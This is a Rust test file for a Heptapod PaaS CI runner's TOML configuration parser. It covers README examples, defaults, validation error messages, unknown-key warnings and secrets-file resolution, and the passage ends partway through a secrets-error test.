//! Tests of loading configurations: the reference examples, defaults, secrets and every error.

use std::io;
use std::path::Path;
use std::time::Duration;

use crate::{parse, parse_with, Config, ConfigError, RunnerConfig};

const PATH: &str = "/etc/paas.toml";

/// The single-organization example of the heptapod-paas-runner 1.1.1 README.
const README_SINGLE_ORGANIZATION: &str = r#"
state_file = "/srv/heptapod-runner/paas-runner-state.json"

[quota_computation]
  reference_runner = "clever-cloud"
  reference_flavor = "3XL"
  reference_jobs_count = 8

[[runners]]
  name = "clever-cloud"
  url = "https://heptapod.example.com"
  token = "D3adNQYu8OCjkYDbwDaG"
  executor = "clever-docker"

  cc_orga_id = "orga_07cf2ef0-c9ad-4f04-b492-94c164f95c76"
  cc_token = "bb52e490-d47e-47a4-b190-73e23eb17111"

  [runners.cc_extra_env]
    CC_ENABLE_HEPTAPOD_RUNNER = "true"
  [runners.custom_build_dir]
  [runners.cache]
    [runners.cache.s3]
    # A future version of Heptapod PAAS Runner may fill this in automatically.
    # Meanwhile it is possible to use any S3 configuration. Using Clever's
    # Cellar for your CI caches in the same zone is the best for
    # network proximity and bandwidth.
    # (replace with your credentials and bucket of choice)
    ServerAddress = "cellar-c2.services.clever-cloud.com"
    AccessKey = "dEA7gjmYM98gobVi6Y1x"
    SecretKey = "v0tdpjgpsDRqaSvIndvHAXFmjbpEd958gbZuO7yv"
    BucketName = "heptapod-ci"
    [runners.cache.gcs]
  [runners.docker]
    helper_image = "registry.heptapod.net/heptapod/heptapod-runner/helper:x86_64-latest"
    tls_verify = false
    image = "debian:bullseye"
    privileged = false
    disable_entrypoint_overwrite = false
    oom_kill_disable = false
    disable_cache = false
    volumes = ["/cache"]
    shm_size = 0
"#;

/// The multi-tenant example of the heptapod-paas-runner 1.1.1 README.
const README_MULTI_TENANT: &str = r#"state_file = "/srv/heptapod-runner/paas-runner-state.json"

[quota_computation]
  reference_runner = "clever-cloud"
  reference_flavor = "3XL"
  reference_jobs_count = 8

[[runners]]
  name = "clever-cloud"
  url = "https://heptapod.example.com"
  token = "D3adNQYu8OCjkYDbwDaG"
  executor = "clever-docker"

  cc_multi_tenant = true
  cc_gitlab_namespace_attributes_token = "D7aY5I5SygxA5oyZ11vB"

  [runners.cc_extra_env]
    CC_ENABLE_HEPTAPOD_RUNNER = "true"

  [runners.custom_build_dir]
  [runners.cache]
    [runners.cache.s3]
    [runners.cache.gcs]
  [runners.docker]
    helper_image = "registry.heptapod.net/heptapod/heptapod-runner/helper:x86_64-latest"
    tls_verify = false
    image = "debian:bullseye"
    volumes = ["/cache"]
"#;

/// A minimal valid file; its `[[runners]]` header is line 6, `cc_token`
/// line 12, so keys appended to it start at line 13.
const BASE: &str = r#"[quota_computation]
reference_runner = "main"
reference_flavor = "M"
reference_jobs_count = 4

[[runners]]
name = "main"
url = "https://heptapod.example/"
token = "glrt-main-token-value"
executor = "clever-docker"
cc_orga_id = "orga_x"
cc_token = "cc-main-token-value"
"#;

/// Secret values used in tests: none may appear in errors or `Debug`.
const SECRET_VALUES: &[&str] = &[
    "glrt-main-token-value",
    "cc-main-token-value",
    "glrt-second-token",
    "from-secrets-runner-token",
    "from-secrets-cc-token",
    "from-secrets-watch-token",
    "from-secrets-s3-key",
];

fn parse_ok(text: &str) -> Config {
    match parse(text, Path::new(PATH)) {
        Ok(config) => config,
        Err(error) => panic!("unexpected error: {error}"),
    }
}

fn parse_err(text: &str) -> ConfigError {
    match parse(text, Path::new(PATH)) {
        Ok(config) => panic!("unexpected success: {config:?}"),
        Err(error) => error,
    }
}

/// Asserts that `shown`, an error message or a `Debug` output, shows none
/// of `SECRET_VALUES`.
fn assert_no_secret(shown: &str) {
    for secret in SECRET_VALUES {
        assert!(!shown.contains(secret), "{shown} shows the secret {secret}");
    }
}

/// Checks the full message of `error`, got for `text`, and that it shows no
/// secret.
fn check_error(error: ConfigError, text: &str, expect: &str) {
    let message = error.to_string();
    assert_eq!(message, expect, "for input:\n{text}");
    assert_no_secret(&message);
}

/// Checks the full message of the error of `text`, and that it shows no secret.
fn check(text: &str, expect: &str) {
    check_error(parse_err(text), text, expect);
}

/// The token of the `paas_job_trace_watch` section of `runner`.
fn watch_token(runner: &RunnerConfig) -> Option<&str> {
    runner
        .trace_watch
        .token
        .as_ref()
        .map(|token| token.expose())
}

/// `BASE` with `old` replaced by `new`.
fn base_with(old: &str, new: &str) -> String {
    assert!(BASE.contains(old), "{old} not in BASE");
    BASE.replacen(old, new, 1)
}

#[test]
fn readme_single_organization_example() {
    let config = parse_ok(README_SINGLE_ORGANIZATION);
    assert_eq!(config.warnings, Vec::<String>::new());
    assert_eq!(
        config.state_file.as_deref(),
        Some(Path::new("/srv/heptapod-runner/paas-runner-state.json"))
    );
    assert_eq!(config.quota.reference_runner, "clever-cloud");
    assert_eq!(config.quota.reference_flavor, "3XL");
    assert_eq!(config.quota.reference_jobs_count, 8);
    assert_eq!(config.runners.len(), 1);
    let runner = &config.runners[0];
    assert_eq!(runner.name, "clever-cloud");
    assert_eq!(runner.line, 9);
    assert_eq!(runner.url, "https://heptapod.example.com");
    assert_eq!(runner.token.expose(), "D3adNQYu8OCjkYDbwDaG");
    assert_eq!(runner.unique_id(), "D3adNQYu");
    assert_eq!(runner.executor, "clever-docker");
    assert_eq!(
        runner.cc.orga_id,
        "orga_07cf2ef0-c9ad-4f04-b492-94c164f95c76"
    );
    assert_eq!(
        runner
            .cc
            .auth
            .legacy_token()
            .expect("legacy token")
            .expose(),
        "bb52e490-d47e-47a4-b190-73e23eb17111"
    );
    assert_eq!(
        runner
            .cc
            .extra_env
            .get("CC_ENABLE_HEPTAPOD_RUNNER")
            .map(String::as_str),
        Some("true")
    );
    assert_eq!(config.reference_runner().map(|runner| runner.line), Some(9));
}

#[test]
fn readme_multi_tenant_example_is_not_supported() {
    let error = parse_err(README_MULTI_TENANT);
    assert_eq!(error.line(), Some(14));
    assert_eq!(error.key(), Some("runners[0].cc_multi_tenant"));
    assert_eq!(
        error.to_string(),
        "/etc/paas.toml:14: key `runners[0].cc_multi_tenant`: the multi-tenant mode of \
         heptapod-paas-runner is not supported yet; remove `cc_multi_tenant` and set \
         `cc_orga_id` and `cc_token` for a single Clever Cloud organization"
    );
    // Explicitly single-tenant is fine.
    parse_ok(&format!("{BASE}cc_multi_tenant = false\n"));
}

#[test]
fn defaults() {
    let config = parse_ok(BASE);
    assert_eq!(config.concurrent, 50);
    assert_eq!(config.check_interval, Duration::from_secs(3));
    assert_eq!(config.job_progress_poll_interval, Duration::from_secs(30));
    assert_eq!(config.state_file, None);
    assert_eq!(config.quota.allowed_fraction_per_runner, 1.0);
    assert_eq!(config.max_concurrent_provisioning, 10);
    assert_eq!(config.min_seconds_between_launches, Duration::ZERO);
    assert!(!config.finished_jobs_keep_resources);
    assert!(config.decommission_launch_failures);
    assert!(config.repoll_same_runner_immediately);
    assert!(config.log_statistics);
    assert_eq!(config.listen_address, None);
    assert!(config.warnings.is_empty());

    let runner = &config.runners[0];
    assert_eq!(runner.line, 6);
    assert_eq!(
        runner.url, "https://heptapod.example",
        "trailing slash trimmed"
    );
    assert_eq!(runner.quota_max_fraction, 1.0);
    assert_eq!(
        runner.heptapod_runner_main_image,
        "registry.heptapod.net:443/heptapod/heptapod-runner/runner:0.7.0"
    );
    assert_eq!(runner.paas_helper_image, None);
    assert_eq!(runner.trace_watch.token, None);
    assert_eq!(runner.trace_watch.timeout, Duration::from_secs(300));
    assert_eq!(runner.trace_watch.poll_step, Duration::from_secs(10));

    let cc = &runner.cc;
    assert_eq!(cc.api_url, "https://api.clever-cloud.com/v2");
    assert_eq!(cc.zone, "par");
    assert_eq!(cc.default_flavor, "M");
    assert_eq!(cc.max_flavor, None);
    assert!(cc.extra_env.is_empty());
    assert_eq!(cc.flavor_context, "heptapod-runner");
    assert_eq!(cc.flavor_name_prefix, "heptapod-runner-");
    assert_eq!(
        cc.instance_variant_uuid,
        "70d676a0-a775-4dc9-a43d-3121036e8515"
    );
    assert_eq!(cc.auth_user, "Jenkins");
    assert_eq!(cc.deployment_repo_timeout, Duration::from_secs(20));
    assert_eq!(cc.deployment_repo_wait_step, Duration::from_secs(2));
}

#[test]
fn every_setting() {
    let text = format!(
        r#"concurrent = 7
check_interval = 0.5
job_progress_poll_interval = 12
listen_address = "127.0.0.1:9252"
paas_max_concurrent_provisioning = 3
paas_min_seconds_between_launches = 0.25
paas_finished_jobs_keep_resources = true
paas_decommission_launch_failures = false
paas_repoll_same_runner_immediately = false
paas_log_statistics = false
log_level = "debug"
shutdown_timeout = 30
[session_server]
listen_address = "[::]:8093"
{}quota_max_fraction = 0.5
cc_api_url = "https://api.example/v2/"
cc_zone = "rbx"
cc_default_flavor = "S"
cc_max_flavor = "2XL"
cc_flavor_context = "ctx"
cc_instance_variant_uuid = "uuid"
cc_auth_user = "someone"
cc_deployment_repo_timeout = 1.5
cc_deployment_repo_wait_step = 0.1
heptapod_runner_main_image = "runner:1"
heptapod_paas_runner_helper_image = "helper:1"
[runners.cc_extra_env]
CC_ENABLE_HEPTAPOD_RUNNER = true
WORKERS = 4
NAME = "x"
[runners.paas_job_trace_watch]
token = "watch-token"
timeout_seconds = 60.5
poll_step = 2
"#,
        BASE.replace(
            "reference_jobs_count = 4\n",
            "reference_jobs_count = 4\nallowed_fraction_per_runner = 0.8\n"
        )
    );
    let config = parse_ok(&text);
    // gitlab-runner's keys without effect here get one warning each.
    assert_eq!(
        config.warnings,
        [
            "/etc/paas.toml:3: key `job_progress_poll_interval`: no effect in paas-runner \
             (polling resumes as soon as capacity frees up; job status checks follow \
             check_interval): ignored",
            "/etc/paas.toml:12: key `shutdown_timeout`: gitlab-runner setting with no effect \
             in paas-runner: ignored",
            "/etc/paas.toml:13: key `session_server`: gitlab-runner setting with no effect in \
             paas-runner: ignored",
        ]
    );
    assert_eq!(config.log_level.as_deref(), Some("debug"));
    assert_eq!(config.concurrent, 7);
    assert_eq!(config.check_interval, Duration::from_millis(500));
    assert_eq!(config.job_progress_poll_interval, Duration::from_secs(12));
    assert_eq!(config.listen_address.as_deref(), Some("127.0.0.1:9252"));
    assert_eq!(config.max_concurrent_provisioning, 3);
    assert_eq!(
        config.min_seconds_between_launches,
        Duration::from_millis(250)
    );
    assert!(config.finished_jobs_keep_resources);
    assert!(!config.decommission_launch_failures);
    assert!(!config.repoll_same_runner_immediately);
    assert!(!config.log_statistics);
    assert_eq!(config.quota.allowed_fraction_per_runner, 0.8);

    let runner = &config.runners[0];
    assert_eq!(runner.quota_max_fraction, 0.5);
    assert_eq!(runner.heptapod_runner_main_image, "runner:1");
    assert_eq!(runner.paas_helper_image.as_deref(), Some("helper:1"));
    assert_eq!(watch_token(runner), Some("watch-token"));
    assert_eq!(runner.trace_watch.timeout, Duration::from_millis(60_500));
    assert_eq!(runner.trace_watch.poll_step, Duration::from_secs(2));
    let cc = &runner.cc;
    assert_eq!(cc.api_url, "https://api.example/v2");
    assert_eq!(cc.zone, "rbx");
    assert_eq!(cc.default_flavor, "S");
    assert_eq!(cc.max_flavor.as_deref(), Some("2XL"));
    assert_eq!(cc.flavor_context, "ctx");
    assert_eq!(cc.flavor_name_prefix, "ctx-");
    assert_eq!(cc.instance_variant_uuid, "uuid");
    assert_eq!(cc.auth_user, "someone");
    assert_eq!(cc.deployment_repo_timeout, Duration::from_millis(1500));
    assert_eq!(cc.deployment_repo_wait_step, Duration::from_millis(100));
    let env: Vec<(&str, &str)> = cc
        .extra_env
        .iter()
        .map(|(name, value)| (name.as_str(), value.as_str()))
        .collect();
    assert_eq!(
        env,
        [
            ("CC_ENABLE_HEPTAPOD_RUNNER", "true"),
            ("NAME", "x"),
            ("WORKERS", "4")
        ]
    );
}

#[test]
fn readme_spellings_are_accepted() {
    let text = format!(
        "pass_decommision_launched_failures = false\njob_progress_interval = 5\n{BASE}\
         [runners.job_trace_watch]\ntoken = \"t\"\ntimout_seconds = 30\n"
    );
    let config = parse_ok(&text);
    assert!(!config.decommission_launch_failures);
    assert_eq!(config.job_progress_poll_interval, Duration::from_secs(5));
    assert_eq!(
        config.runners[0].trace_watch.timeout,
        Duration::from_secs(30)
    );
    assert!(config.runners[0].trace_watch.token.is_some());
}

#[test]
fn intervals_accept_fractions() {
    let config = parse_ok(&format!("check_interval = 0.5\n{BASE}"));
    assert_eq!(config.check_interval, Duration::from_millis(500));
    let config = parse_ok(&format!("check_interval = 2\n{BASE}"));
    assert_eq!(config.check_interval, Duration::from_secs(2));
}

#[test]
fn orphan_min_age_defaults_to_ten_minutes() {
    let config = parse_ok(BASE);
    assert_eq!(config.orphan_min_age, Duration::from_secs(600));
    let config = parse_ok(&format!("paas_orphan_min_age = 90\n{BASE}"));
    assert_eq!(config.orphan_min_age, Duration::from_secs(90));
    assert!(config.warnings.is_empty(), "{:?}", config.warnings);
}

#[test]
fn global_errors() {
    let cases = [
        (
            "concurrent = -3\n",
            "/etc/paas.toml:1: key `concurrent`: expected a positive integer, got -3",
        ),
        (
            "concurrent = 0\n",
            "/etc/paas.toml:1: key `concurrent`: expected a positive integer, got 0",
        ),
        (
            "\nconcurrent = \"many\"\n",
            "/etc/paas.toml:2: key `concurrent`: expected a positive integer, got the string \"many\"",
        ),
        (
            "concurrent = 1.5\n",
            "/etc/paas.toml:1: key `concurrent`: expected a positive integer, got 1.5",
        ),
        (
            "check_interval = -0.5\n",
            "/etc/paas.toml:1: key `check_interval`: expected a number of seconds (0 or more), got -0.5",
        ),
        (
            "check_interval = nan\n",
            "/etc/paas.toml:1: key `check_interval`: expected a number of seconds (0 or more), got NaN",
        ),
        (
            "log_level = \"loud\"\n",
            "/etc/paas.toml:1: key `log_level`: unknown level \"loud\"; expected one of trace, \
             debug, info, warn, warning, error, fatal, panic",
        ),
        (
            "log_format = \"xml\"\n",
            "/etc/paas.toml:1: key `log_format`: unknown format \"xml\"; expected one of runner, \
             text, json",
        ),
        (
            "paas_orphan_min_age = 0\n",
            "/etc/paas.toml:1: key `paas_orphan_min_age`: expected a positive number of seconds, got 0",
        ),
        (
            "job_progress_poll_interval = \"30s\"\n",
            "/etc/paas.toml:1: key `job_progress_poll_interval`: expected a positive number of \
             seconds, got the string \"30s\"",
        ),
        (
            "job_progress_poll_interval = 1\njob_progress_interval = 2\n",
            "/etc/paas.toml:2: key `job_progress_interval`: `job_progress_interval` and \
             `job_progress_poll_interval` (line 1) are two spellings of the same setting: keep one",
        ),
        (
            "paas_max_concurrent_provisioning = 0\n",
            "/etc/paas.toml:1: key `paas_max_concurrent_provisioning`: expected a positive \
             integer, got 0",
        ),
        (
            "paas_min_seconds_between_launches = -1\n",
            "/etc/paas.toml:1: key `paas_min_seconds_between_launches`: expected a number of \
             seconds (0 or more), got -1",
        ),
        (
            "paas_log_statistics = \"yes\"\n",
            "/etc/paas.toml:1: key `paas_log_statistics`: expected a boolean (true or false), \
             got the string \"yes\"",
        ),
        (
            "state_file = 3\n",
            "/etc/paas.toml:1: key `state_file`: expected a string, got 3",
        ),
        (
            "listen_address = \"\"\n",
            "/etc/paas.toml:1: key `listen_address`: empty address",
        ),
    ];
    for (global, expect) in cases {
        check(&format!("{global}{BASE}"), expect);
    }
}

#[test]
fn quota_errors() {
    check(
        &BASE.replace("[quota_computation]\n", "[quota]\n"),
        "/etc/paas.toml: key `quota_computation`: missing required section \
         [quota_computation]: it sets the weighted quota as the weight of \
         `reference_jobs_count` jobs of flavor `reference_flavor` of the runner named \
         `reference_runner`",
    );
    check(
        &base_with(
            "reference_runner = \"main\"",
            "reference_runner = \"other\"",
        ),
        "/etc/paas.toml:2: key `quota_computation.reference_runner`: no runner is named \
         \"other\"; runner names: \"main\"",
    );
    check(
        &base_with("reference_jobs_count = 4", "reference_jobs_count = 0"),
        "/etc/paas.toml:4: key `quota_computation.reference_jobs_count`: expected a positive \
         integer, got 0",
    );
    check(
        &base_with("reference_jobs_count = 4\n", ""),
        "/etc/paas.toml:1: key `quota_computation.reference_jobs_count`: missing required key",
    );
    check(
        &base_with("reference_flavor = \"M\"", "reference_flavor = 3"),
        "/etc/paas.toml:3: key `quota_computation.reference_flavor`: expected a string, got 3",
    );
    for fraction in ["0", "1.5", "-0.5", "\"half\""] {
        let text = base_with(
            "reference_jobs_count = 4\n",
            &format!("reference_jobs_count = 4\nallowed_fraction_per_runner = {fraction}\n"),
        );
        let shown = fraction.replace('"', "");
        let got = if fraction.starts_with('"') {
            format!("the string \"{shown}\"")
        } else {
            shown
        };
        check(
            &text,
            &format!(
                "/etc/paas.toml:5: key `quota_computation.allowed_fraction_per_runner`: expected \
                 a fraction in (0, 1], such as 0.8, got {got}"
            ),
        );
    }
    check(
        "quota_computation = 3\n[[runners]]\n",
        "/etc/paas.toml:1: key `quota_computation`: expected a table, got 3",
    );
}

#[test]
fn runner_errors() {
    let cases = [
        (
            "quota_max_fraction = 1.5\n",
            "/etc/paas.toml:13: key `runners[0].quota_max_fraction`: expected a fraction in \
             (0, 1], such as 0.8, got 1.5",
        ),
        (
            "cc_deployment_repo_timeout = 0\n",
            "/etc/paas.toml:13: key `runners[0].cc_deployment_repo_timeout`: expected a positive \
             number of seconds, got 0",
        ),
        (
            "cc_api_url = \"api.clever-cloud.com\"\n",
            "/etc/paas.toml:13: key `runners[0].cc_api_url`: expected an http or https URL \
             (relative URL without a base)",
        ),
        (
            "cc_max_flavor = 3\n",
            "/etc/paas.toml:13: key `runners[0].cc_max_flavor`: expected a string, got 3",
        ),
        (
            "cc_multi_tenant = \"no\"\n",
            "/etc/paas.toml:13: key `runners[0].cc_multi_tenant`: expected a boolean (true or \
             false), got the string \"no\"",
        ),
        (
            "[runners.cc_extra_env]\nA = \"x\"\nB = [1]\n",
            "/etc/paas.toml:15: key `runners[0].cc_extra_env.B`: expected a string, an integer \
             or a boolean, got an array",
        ),
        (
            "cc_extra_env = 3\n",
            "/etc/paas.toml:13: key `runners[0].cc_extra_env`: expected a table, got 3",
        ),
        (
            "[runners.paas_job_trace_watch]\ntimeout_seconds = -1\n",
            "/etc/paas.toml:14: key `runners[0].paas_job_trace_watch.timeout_seconds`: expected \
             a positive number of seconds, got -1",
        ),
        (
            "[runners.paas_job_trace_watch]\ntimeout_seconds = 1\ntimout_seconds = 2\n",
            "/etc/paas.toml:15: key `runners[0].paas_job_trace_watch.timout_seconds`: \
             `timout_seconds` and `timeout_seconds` (line 14) are two spellings of the same \
             setting: keep one",
        ),
        (
            "[runners.paas_job_trace_watch]\ntoken = 1234567\n",
            "/etc/paas.toml:14: key `runners[0].paas_job_trace_watch.token`: expected a string, \
             got an integer",
        ),
        (
            "[runners.paas_job_trace_watch]\ntoken = \"\"\n",
            "/etc/paas.toml:14: key `runners[0].paas_job_trace_watch.token`: empty token",
        ),
        (
            "[runners.paas_job_trace_watch]\n[runners.job_trace_watch]\n",
            "/etc/paas.toml:14: key `runners[0].job_trace_watch`: `job_trace_watch` and \
             `paas_job_trace_watch` (line 13) are two spellings of the same setting: keep one",
        ),
        (
            "secrets_file = 3\n",
            "/etc/paas.toml:13: key `runners[0].secrets_file`: expected a string, got 3",
        ),
    ];
    for (keys, expect) in cases {
        check(&format!("{BASE}{keys}"), expect);
    }
}

#[test]
fn runner_replaced_key_errors() {
    let cases = [
        (
            "executor = \"clever-docker\"",
            "executor = \"docker\"",
            "/etc/paas.toml:10: key `runners[0].executor`: unknown executor \"docker\"; \
             supported executors: `clever-docker`",
        ),
        (
            "executor = \"clever-docker\"",
            "executor = \"local-docker\"",
            "/etc/paas.toml:10: key `runners[0].executor`: executor `local-docker` of \
             heptapod-paas-runner is not supported by paas-runner; supported executors: \
             `clever-docker`",
        ),
        (
            "executor = \"clever-docker\"",
            "executor = \"clever-service-docker\"",
            "/etc/paas.toml:10: key `runners[0].executor`: executor `clever-service-docker` of \
             heptapod-paas-runner is not supported by paas-runner; supported executors: \
             `clever-docker`",
        ),
        (
            "executor = \"clever-docker\"\n",
            "",
            "/etc/paas.toml:6: key `runners[0].executor`: missing required key",
        ),
        (
            "name = \"main\"\n",
            "",
            "/etc/paas.toml:6: key `runners[0].name`: missing required key",
        ),
        (
            "cc_token = \"cc-main-token-value\"\n",
            "",
            "/etc/paas.toml:6: key `runners[0].cc_token`: missing required key",
        ),
        (
            "cc_orga_id = \"orga_x\"\n",
            "",
            "/etc/paas.toml:6: key `runners[0].cc_orga_id`: missing required key",
        ),
        (
            "cc_orga_id = \"orga_x\"",
            "cc_orga_id = \"\"",
            "/etc/paas.toml:11: key `runners[0].cc_orga_id`: empty organization id",
        ),
        (
            "token = \"glrt-main-token-value\"\n",
            "",
            "/etc/paas.toml:6: key `runners[0].token`: missing required key",
        ),
        (
            "token = \"glrt-main-token-value\"",
            "token = \"\"",
            "/etc/paas.toml:9: key `runners[0].token`: empty token",
        ),
        (
            "token = \"glrt-main-token-value\"",
            "token = 12345678",
            "/etc/paas.toml:9: key `runners[0].token`: expected a string, got an integer",
        ),
        (
            "cc_token = \"cc-main-token-value\"",
            "cc_token = [\"cc-main-token-value\"]",
            "/etc/paas.toml:12: key `runners[0].cc_token`: expected a string, got an array",
        ),
        (
            "url = \"https://heptapod.example/\"",
            "url = \"ftp://heptapod.example/\"",
            "/etc/paas.toml:8: key `runners[0].url`: expected an http or https URL, got scheme \
             `ftp`",
        ),
        (
            "url = \"https://heptapod.example/\"",
            "url = \"heptapod.example\"",
            "/etc/paas.toml:8: key `runners[0].url`: expected an http or https URL (relative URL \
             without a base)",
        ),
        (
            "url = \"https://heptapod.example/\"",
            "url = \"unix:/run/socket\"",
            "/etc/paas.toml:8: key `runners[0].url`: expected an http or https URL, got scheme \
             `unix`",
        ),
        (
            "[[runners]]",
            "[runners]",
            "/etc/paas.toml:6: key `runners`: expected [[runners]] sections (with double \
             brackets), got a table",
        ),
    ];
    for (old, new, expect) in cases {
        check(&base_with(old, new), expect);
    }
}

#[test]
fn runners_are_required() {
    check(
        "[quota_computation]\nreference_runner = \"a\"\nreference_flavor = \"M\"\n\
         reference_jobs_count = 1\n",
        "/etc/paas.toml: key `runners`: at least one [[runners]] section is required",
    );
    check(
        "runners = []\n[quota_computation]\nreference_runner = \"a\"\nreference_flavor = \"M\"\n\
         reference_jobs_count = 1\n",
        "/etc/paas.toml: key `runners`: at least one [[runners]] section is required",
    );
    check(
        "runners = [1]\n[quota_computation]\nreference_runner = \"a\"\nreference_flavor = \"M\"\n\
         reference_jobs_count = 1\n",
        "/etc/paas.toml:1: key `runners`: expected [[runners]] sections, got an array that is \
         not of tables",
    );
}

/// A second runner appended to `BASE`, its header at line 13.
fn second_runner(name: &str, token: &str) -> String {
    format!(
        "{BASE}[[runners]]\nname = \"{name}\"\nurl = \"https://other.example\"\n\
         token = \"{token}\"\nexecutor = \"clever-docker\"\ncc_orga_id = \"orga_o\"\n\
         cc_token = \"cc-main-token-value\"\n"
    )
}

#[test]
fn runners_are_distinct() {
    let config = parse_ok(&second_runner("second", "glrt-second-token"));
    assert_eq!(config.runners.len(), 2);
    assert_eq!(config.runners[1].line, 13);
    assert_eq!(config.runners[1].url, "https://other.example");
    assert_eq!(config.runner("second").map(|runner| runner.line), Some(13));

    check(
        &second_runner("main", "glrt-second-token"),
        "/etc/paas.toml:14: key `runners[1].name`: duplicate runner name \"main\", already used \
         by runners[0] (line 7)",
    );
    check(
        &second_runner("second", "glrt-main-other"),
        "/etc/paas.toml:16: key `runners[1].token`: the first 8 characters of this token are \
         those of the token of runners[0] (line 9); they are the runner's unique id (as in \
         heptapod-paas-runner, which names cloud resources and state after them), so they \
         must differ",
    );
    check(
        &second_runner("second", "glrt-second-token").replacen(
            "reference_runner = \"main\"",
            "reference_runner = \"third\"",
            1,
        ),
        "/etc/paas.toml:2: key `quota_computation.reference_runner`: no runner is named \
         \"third\"; runner names: \"main\", \"second\"",
    );
}

#[test]
fn syntax_errors_have_line_and_column() {
    let error = parse_err(&format!("{BASE}token = \"glrt-oops\n"));
    assert_eq!(error.line(), Some(13));
    assert_eq!(error.column(), Some(19));
    let message = error.to_string();
    assert!(
        message.starts_with("/etc/paas.toml:13:19: invalid TOML: "),
        "{message}"
    );
    assert!(!message.contains("glrt-oops"), "{message}");

    let error = parse_err(&format!("{BASE}name = \"again\"\n"));
    assert_eq!(error.line(), Some(13));
    assert!(error.message().contains("duplicate key"), "{error}");
}

#[test]
fn unknown_keys_are_warnings() {
    let text = format!(
        "log_level = \"info\"\nlog_format = \"json\"\nsentry_dsn = \"x\"\n\
         connection_max_age = \"15m\"\nuser = \"runner\"\nfoo = 1\npaas_bar = true\n{BASE}\
         cc_zoen = \"par\"\ncc_orga_id_attribute = \"x\"\npaas_keep_resources_for_reuse_seconds = 3\n\
         limit = 3\nquota_max_fraction = 1\n[runners.paas_job_trace_watch]\ntimeout = 5\n"
    )
    .replace(
        "reference_jobs_count = 4\n",
        "reference_jobs_count = 4\nreference_flavour = \"S\"\nallowed_fraction_per_runner = 0.5\n",
    );
    let config = parse_ok(&text);
    assert_eq!(
        config.warnings,
        [
            "/etc/paas.toml:3: key `sentry_dsn`: gitlab-runner setting with no effect in \
             paas-runner: ignored",
            "/etc/paas.toml:4: key `connection_max_age`: gitlab-runner setting with no effect \
             in paas-runner: ignored",
            "/etc/paas.toml:5: key `user`: gitlab-runner setting with no effect in paas-runner: \
             ignored",
            "/etc/paas.toml:6: key `foo`: unknown global key: ignored",
            "/etc/paas.toml:7: key `paas_bar`: unknown global key: ignored",
            "/etc/paas.toml:12: key `quota_computation.reference_flavour`: unknown key: ignored",
            "/etc/paas.toml:28: key `runners[0].paas_job_trace_watch.timeout`: unknown key: \
             ignored",
            "/etc/paas.toml:22: key `runners[0].cc_zoen`: unknown Clever Cloud setting: ignored",
            "/etc/paas.toml:23: key `runners[0].cc_orga_id_attribute`: only used in the \
             multi-tenant mode, which paas-runner does not support: ignored",
            "/etc/paas.toml:24: key `runners[0].paas_keep_resources_for_reuse_seconds`: not used \
             by paas-runner: ignored",
            "/etc/paas.toml:26: key `runners[0].quota_max_fraction`: 1 is above \
             quota_computation.allowed_fraction_per_runner (0.5), which applies instead",
        ]
    );
    assert_eq!(
        config.runners[0].inner_config.get("limit"),
        Some(&toml::Value::Integer(3))
    );
}

/// Reads files from an in-memory list, for secrets tests without disk.
fn parse_with_files(text: &str, files: &[(&str, &str)]) -> Result<Config, ConfigError> {
    let read_file = |path: &Path| -> io::Result<String> {
        files
            .iter()
            .find(|(name, _)| Path::new(name) == path)
            .map(|(_, content)| (*content).to_owned())
            .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no such file (test)"))
    };
    parse_with(text, Path::new(PATH), &read_file)
}

const SECRETS: &str = r#"runner = "from-secrets-runner-token"
cc = "from-secrets-cc-token"
watch = "from-secrets-watch-token"
s3 = "from-secrets-s3-key"
number = 3
"#;

/// `BASE` with every secret taken from `/etc/secrets.toml`.
fn secret_base(extra: &str) -> String {
    format!(
        "{}secrets_file = \"/etc/secrets.toml\"\n{extra}\
         [runners.paas_job_trace_watch]\ntoken = \"secret:watch\"\n\
         [runners.cache.s3]\nSecretKey = \"secret:s3\"\nAccessKey = \"plain\"\n",
        base_with(
            "token = \"glrt-main-token-value\"",
            "token = \"secret:runner\""
        )
        .replace(
            "cc_token = \"cc-main-token-value\"",
            "cc_token = \"secret:cc\""
        )
    )
}

#[test]
fn secrets_are_resolved() {
    let config = match parse_with_files(&secret_base(""), &[("/etc/secrets.toml", SECRETS)]) {
        Ok(config) => config,
        Err(error) => panic!("{error}"),
    };
    let runner = &config.runners[0];
    assert_eq!(runner.token.expose(), "from-secrets-runner-token");
    assert_eq!(
        runner
            .cc
            .auth
            .legacy_token()
            .expect("legacy token")
            .expose(),
        "from-secrets-cc-token"
    );
    assert_eq!(watch_token(runner), Some("from-secrets-watch-token"));
    let inner = &runner.inner_config;
    assert_eq!(
        inner.get("token").and_then(toml::Value::as_str),
        Some("from-secr.placeholder.not.a.token"),
        "the inner runner gets a placeholder, never the runner token"
    );
    let s3 = inner
        .get("cache")
        .and_then(|cache| cache.get("s3"))
        .and_then(toml::Value::as_table);
    assert_eq!(
        s3.and_then(|s3| s3.get("SecretKey"))
            .and_then(toml::Value::as_str),
        Some("from-secrets-s3-key")
    );
    assert_eq!(
        s3.and_then(|s3| s3.get("AccessKey"))
            .and_then(toml::Value::as_str),
        Some("plain")
    );
    assert_no_secret(&format!("{config:?}"));
}

#[test]
fn secrets_file_on_disk() {
    let directory = match tempfile::tempdir() {
        Ok(directory) => directory,
        Err(error) => panic!("{error}"),
    };
    let secrets_path = directory.path().join("secrets.toml");
    if let Err(error) = std::fs::write(&secrets_path, SECRETS) {
        panic!("{error}");
    }
    let text = secret_base("").replace("/etc/secrets.toml", &secrets_path.display().to_string());
    let config_path = directory.path().join("config.toml");
    if let Err(error) = std::fs::write(&config_path, &text) {
        panic!("{error}");
    }
    let config = match crate::load(&config_path) {
        Ok(config) => config,
        Err(error) => panic!("{error}"),
    };
    assert_eq!(
        config.runners[0].token.expose(),
        "from-secrets-runner-token"
    );

    let missing = directory.path().join("missing.toml");
    let error = match crate::load(&missing) {
        Ok(_) => panic!("loaded a missing file"),
        Err(error) => error,
    };
    assert!(
        error.to_string().starts_with(&format!(
            "{}: cannot read configuration file: ",
            missing.display()
        )),
        "{error}"
    );
}

#[test]
fn secrets_errors() {
    let check_secrets = |text: &str, files: &[(&str, &str)], expect: &str| {
        let error = match parse_with_files(text, files) {
            Ok(config) => panic!("unexpected success: {config:?}"),
            Err(error) => error,
        };
        check_error(error, text, expect);
    };
    let secrets = [("/etc/secrets.toml", SECRETS)];
    check_secrets(
        &secret_base(""),
        &[],
        "/etc/paas.toml:13: key `runners[0].secrets_file`: cannot read secrets file \
         /etc/secrets.toml: no such file (test)",
    );
    check_secrets(
